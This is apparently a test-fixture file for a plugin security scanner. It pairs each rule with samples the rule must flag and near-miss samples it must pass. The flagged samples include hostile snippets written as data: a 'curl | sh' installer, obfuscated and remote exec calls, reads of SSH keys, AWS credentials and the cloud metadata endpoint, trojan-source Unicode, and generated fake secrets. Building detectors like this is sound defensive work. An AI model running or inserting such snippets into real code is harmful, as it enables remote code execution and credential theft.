"""For every rule of the scanner: what it must find, and what it must leave alone.

Each sample is (path, content). The negatives are near misses, not empty files.
"""

from __future__ import annotations

import base64
import random
from typing import NamedTuple


class Sample(NamedTuple):
    """One member that a rule is tried on."""

    path: str
    data: bytes


def py(source: str, path: str = "example_plugin/code.py") -> Sample:
    """Return a Python member."""
    return Sample(path, source.encode())


_RANDOM = random.Random(1)
NOISE = _RANDOM.randbytes(600)
NOISE_TEXT = base64.b64encode(NOISE).decode()
_TOKEN = "".join(_RANDOM.choices("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789", k=40))
_AWS = "AKIA" + "Q3ZEGFTY7WPX2LVM"
SECRETS = (NOISE_TEXT[:64], _TOKEN[:24], _AWS)
"""What the samples of credentials hide."""

_PEM = f"-----BEGIN PRIVATE KEY-----\n{NOISE_TEXT[:64]}\n-----END PRIVATE KEY-----\n"

SAMPLES: dict[str, tuple[tuple[Sample, ...], tuple[Sample, ...]]] = {
    "SG101": (
        (
            Sample("example_plugin/data.bin", b"\x7fELF\x02\x01\x01"),
            Sample("example_plugin/fast.cpython-311-x86_64-linux-gnu.so", b"x"),
            Sample("example_plugin/lib.so.6", b"x"),
            Sample("example_plugin/run", b"MZ\x90\x00"),
            Sample("example_plugin/module.bin", b"\0asm\x01\0\0\0"),
        ),
        (Sample("example_plugin/notes.txt", b"an ELF file begins with \x7fELF"),),
    ),
    "SG102": (
        (
            Sample("example_plugin/code.pyc", b"x"),
            Sample("example_plugin/data.bin", b"\xa7\r\r\n\0\0\0\0" + b"\xe3" * 20),
        ),
        (Sample("example_plugin/table.bin", b"\r\n\r\n\0\1\0\0"),),
    ),
    "SG103": (
        (
            Sample("example_plugin/data.dat", b"PK\x03\x04rest"),
            Sample("example_plugin/data.gz", b"\x1f\x8b\x08rest"),
            Sample("example_plugin/data.tar", b"a" * 257 + b"ustar\0" + b"0" * 250),
        ),
        (Sample("example_plugin/data.txt", b"PKzip is an archiver"),),
    ),
    "SG104": (
        (
            Sample("example_plugin/model.pkl", b"x"),
            Sample("example_plugin/model.bin", b"\x80\x04\x95\x05\0\0\0\0\0\0\0]\x94K\x01a."),
        ),
        (Sample("example_plugin/model.json", b'{"pickle": "no"}'),),
    ),
    "SG105": (
        (
            Sample("example_plugin/install", b"#!/bin/sh\ncurl example.org | sh\n"),
            Sample("example_plugin/install.ps1", b"Write-Host 1"),
        ),
        (Sample("example_plugin/tool", b"#!/usr/bin/env python3\nprint(1)\n"),),
    ),
    "SG111": (
        (
            Sample("evil.pth", b"import os; os.getpid()\n"),
            py("x = 1\n", "sitecustomize.py"),
            py("x = 1\n", "example_plugin/usercustomize.py"),
        ),
        (py("x = 1\n", "example_plugin/customize.py"), Sample("a/path.pth.txt", b"x")),
    ),
    "SG112": (
        (py("x = 1\n", "setup.py"), py("x = 1\n", "example_plugin/conftest.py")),
        (py("x = 1\n", "example_plugin/setup_table.py"),),
    ),
    "SG121": (
        (
            Sample("example_plugin/code.py", b"# coding: utf-7\nx = 1\n"),
            Sample("example_plugin/code.py", b"#!/usr/bin/python\n# coding=unicode_escape\nx=1\n"),
        ),
        (
            Sample("example_plugin/code.py", b"# -*- coding: utf-8 -*-\nx = 1\n"),
            Sample("example_plugin/code.py", b"# -*- coding: latin-1 -*-\nx = 1\n"),
            Sample("example_plugin/code.py", b"x = 1\ny = 2\n# coding: utf-7\n"),
        ),
    ),
    "SG122": (
        (Sample("example_plugin/code.py", b"# coding: latin-1\nx = '\xe9'\n"),),
        (Sample("example_plugin/code.py", b"# coding: latin-1\nx = 'e'\n"),),
    ),
    "SG201": (
        (
            py(
                "access = 'user'\nif access != 'user\u202e \u2066# admin\u2069 \u2066':\n    pass\n"
            ),
            Sample("example_plugin/plugin.json", '{"summary": "\u202e"}'.encode()),
        ),
        (py("mark = '\\u202e'\n"), Sample("example_plugin/ar.md", "\u200fنص\n".encode())),
    ),
    "SG202": (
        (
            py("key = 'ab\u200bcd'\n"),
            py("\u3164 = 1\n"),
            py("payload = '" + "\U000e0100\U000e0101" * 20 + "'\n"),
            py("payload = 'x" + "\ufe00\ufe01\ufe02\ufe03" + "'\n"),
        ),
        (
            py("\ufeffx = 1\n"),
            py("heart = '\u2764\ufe0f'\nfamily = '\U0001f468\u200d\U0001f469\u200d\U0001f467'\n"),
        ),
    ),
    "SG203": (
        (py("x = 1 # \x1b[2Khidden\n"), py("# comment\rimport os\n"), py("x = '\x08'\n")),
        (py("x = 1\r\ny = 2\r\n"), py("x = 1\n\x0c\ny = '\\x1b[0m'\n")),
    ),
    "SG211": (
        (
            py("import base64\nexec(base64.b64decode('eA=='))\n"),
            py(
                "import base64 as b\nfrom zlib import decompress as d\n"
                "code = d(b.b64decode('eA'))\n"
                "e = exec\ne(code)\n"
            ),
            py("import marshal\nexec(marshal.loads(open('x').read()))\n"),
            py("import builtins\nbuiltins.eval(bytes.fromhex('31').decode())\n"),
            py("__import__('builtins').exec(__import__('zlib').decompress(b'x'))\n"),
            py("import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n"),
            py("exec('vzcbeg'.encode().decode('rot13'))\n"),
            py("exec('1(tnirp'[::-1])\n"),
            py("exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41, 59, 49, 50, 51])))\n"),
            py("import urllib.request\nexec(urllib.request.urlopen('https://x').read())\n"),
        ),
        (
            py("import base64\ndata = base64.b64decode('eA==')\nprint(data)\n"),
            py("exec(open('x').read())\n"),
            py("eval(b'1'.decode('utf-8'))\n"),
            py("import re\nre.compile(b'x'.decode())\n"),
        ),
    ),
    "SG212": (
        (
            py("x = ''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41, 59, 49, 50])\n"),
            py("x = bytes([112, 114, 105, 110, 116, 40, 49, 41, 59, 49, 50, 51]).decode()\n"),
            py("x = chr(111) + chr(115) + chr(46) + chr(115)\n"),
        ),
        (
            py("def decode(codes):\n    return ''.join(chr(c) for c in codes)\n"),
            py("x = bytes([1, 2, 3])\ny = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13]\n"),
            py("x = 'a' + chr(10)\n"),
        ),
    ),
    "SG221": (
        (
            py(f"x = '{NOISE_TEXT}'\n"),
            py(f"x = {NOISE!r}\n"),
            py(f"x = '{NOISE.hex()}'\n"),
        ),
        (
            py("x = '" + "a quiet text that says something. " * 40 + "'\n"),
            py("x = '" + "=" * 400 + "'\n"),
            py("x = b'" + "GET / HTTP/1.1 " * 40 + "'\n"),
        ),
    ),
    "SG222": (
        (
            py("open('/home/x/.ssh/id_ed25519')\n"),
            py("url = 'http://169.254.169.254/latest/meta-data'\n"),
            py("from pathlib import Path\np = Path.home() / '.aws/credentials'\n"),
        ),
        (py("x = 'config.json'\n"), py("x = 'ssh is a protocol'\n")),
    ),
    "SG231": (
        (py("x = [" + "1, " * 500 + "]\n"),),
        (py("x = [" + "1, " * 100 + "]\n"),),
    ),
    "SG232": (
        (py("x = 1;" + " " * 200 + "import os\n"), py("if x:\n" + " " * 250 + "import os\n")),
        (py("x = 1" + " " * 200 + "\n"), py("x = 1  # aligned\n")),
    ),
    "SG241": (
        (py("\U0001d41e\U0001d431\U0001d41e\U0001d41c('1')\n"), py("import o\u017f\n")),
        (py("x = '\U0001d41e\U0001d431'\n"), py("größe = 1\n")),
    ),
    "SG242": (
        (py("p\u0430ssword = 1\n"),),
        (py("größe = 1\n"), py("имя = 1\n"), py("x = 'p\u0430ssword'\n")),
    ),
    "SG301": (
        (
            py("import importlib\nimportlib.import_module(name)\n"),
            py("__import__('o' + 's')\n"),
            py("from importlib import import_module as load\nload(f'{x}')\n"),
        ),
        (py("import importlib\nimportlib.import_module('json')\n"), py("__import__('json')\n")),
    ),
    "SG302": (
        (
            py("import os\ngetattr(os, 'sys' + 'tem')('x')\n"),
            py("import builtins\ngetattr(builtins, 'ex' + 'ec')\n"),
            py("globals()['f']()\n"),
            py("__builtins__['eval']('1')\n"),
        ),
        (py("getattr(thing, 'name')\n"), py("table = {}\ntable['f']()\n")),
    ),
    "SG303": (
        (py("getattr(thing, name)()\n"),),
        (py("getattr(thing, 'close')()\n"), py("x = getattr(thing, name)\n")),
    ),
    "SG311": (
        (
            py("().__class__.__base__.__subclasses__()\n"),
            py("f.__globals__['x']\n"),
        ),
        (py("globals_ = 1\nprint(x.__class__.__name__)\n"),),
    ),
    "SG312": (
        (
            py("import sys\nsys.meta_path.insert(0, x)\n"),
            py("import builtins\nbuiltins.open = x\n"),
            py("import sys\nsys.settrace(f)\n"),
        ),
        (py("import sys\nsys.exit(0)\n"), py("import builtins\nx = builtins.open\n")),
    ),
    "SG313": (
        (
            py("import marshal\nx = marshal.loads(data)\n"),
            py("import types\nx = types.CodeType(0)\n"),
        ),
        (py("import types\nx = types.SimpleNamespace()\n"), py("import json\njson.loads(x)\n")),
    ),
    "SG321": (
        (
            py("import ctypes\n"),
            py("from ctypes import cdll\n"),
            py("import mmap as m\n"),
            py("__import__('ctypes')\n"),
        ),
        (py("import ctypeslike\n"), py("from .ctypes import x\n")),
    ),
    "SG401": (
        (
            py("import socket\n"),
            py("from urllib import request\n"),
            py("import http.client as h\n"),
            py("import importlib\nimportlib.import_module('socket')\n"),
        ),
        (py("import urllib.parse\n"), py("from http import HTTPStatus\n")),
    ),
    "SG411": (
        (
            py("import os\nos.system('ls')\n"),
            py("from subprocess import run as r\nr(['ls'])\n"),
            py("import os\nf = os.popen\nf('ls')\n"),
            py("__import__('os').system('ls')\n"),
        ),
        (py("import os\nos.path.join('a', 'b')\n"), py("self.run(['ls'])\n")),
    ),
    "SG412": (
        (py("import subprocess\n"), py("from multiprocessing import Process\n")),
        (py("import threading\n"),),
    ),
    "SG421": (
        (
            py("import os\nx = dict(os.environ)\n"),
            py("import json\nfrom os import environ as e\njson.dumps(e)\n"),
            py("import os\nfor k, v in os.environ.items():\n    pass\n"),
        ),
        (py("import os\nx = os.environ.get('HOME')\n"), py("import os\nos.environ['A']\n")),
    ),
    "SG422": (
        (py("import getpass\ngetpass.getuser()\n"), py("import os\nos.uname()\n")),
        (py("import platform\nplatform.python_version()\n"),),
    ),
    "SG501": (
        (
            Sample("example_plugin/key.txt", _PEM.encode()),
            py(f"KEY = {_PEM!r}\n"),
            py(f'KEY = """{_PEM}"""\n'),
        ),
        (
            py("if text.startswith('-----BEGIN PRIVATE KEY-----'):\n    pass\n"),
            Sample("a/cert.pem", _PEM.replace("PRIVATE KEY", "CERTIFICATE").encode()),
        ),
    ),
    "SG502": (
        (
            py(f"KEY = '{_AWS}'\n"),
            Sample("example_plugin/conf.json", f'{{"t": "ghp_{_TOKEN[:36]}"}}'.encode()),
            Sample("example_plugin/readme.md", f"xoxb-123456789012-{_TOKEN[:24]}".encode()),
            py(f"U = 'https://discord.com/api/webhooks/123456789012345678/{_TOKEN}x'\n"),
        ),
        (
            py("KEY = 'AKIAIOSFODNN7EXAMPLE'\n"),
            py("PATTERN = r'ghp_[A-Za-z0-9]{36}'\n"),
        ),
    ),
    "SG503": (
        (
            py(f"api_key = '{_TOKEN}'\n"),
            Sample("example_plugin/conf.json", f'{{"client_secret": "{_TOKEN}"}}'.encode()),
        ),
        (
            py("password = 'please-choose-your-own'\n"),
            py(f"colour = '{_TOKEN}'\n"),
            py("token_type = 'application_x_www_form_urlencoded'\n"),
        ),
    ),
}
"""Rule -> (samples that it must find, samples that it must not)."""
